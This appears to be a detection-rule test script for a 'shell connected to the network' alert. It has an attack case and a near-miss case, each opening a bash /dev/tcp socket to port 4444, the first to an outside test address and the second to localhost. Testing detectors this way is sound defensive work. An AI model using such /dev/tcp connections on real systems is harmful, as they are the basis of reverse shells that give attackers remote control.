# rule: Shell connected to the network
# where: host
# needs: bash perl
attack() {
    perl -MIO::Socket -e '$l = IO::Socket::INET->new(LocalAddr => "0.0.0.0", LocalPort => 4444, Listen => 2, ReuseAddr => 1) or die; open(R, ">", "ready"); close R; sleep 4' &
    while [ ! -e ready ]; do sleep 0.05; done
    bash -c 'exec 5<> /dev/tcp/192.0.2.7/4444'
}
near_miss() {
    perl -MIO::Socket -e '$l = IO::Socket::INET->new(LocalAddr => "0.0.0.0", LocalPort => 4444, Listen => 2, ReuseAddr => 1) or die; open(R, ">", "ready"); close R; sleep 4' &
    while [ ! -e ready ]; do sleep 0.05; done
    bash -c 'exec 5<> /dev/tcp/127.0.0.1/4444'
}
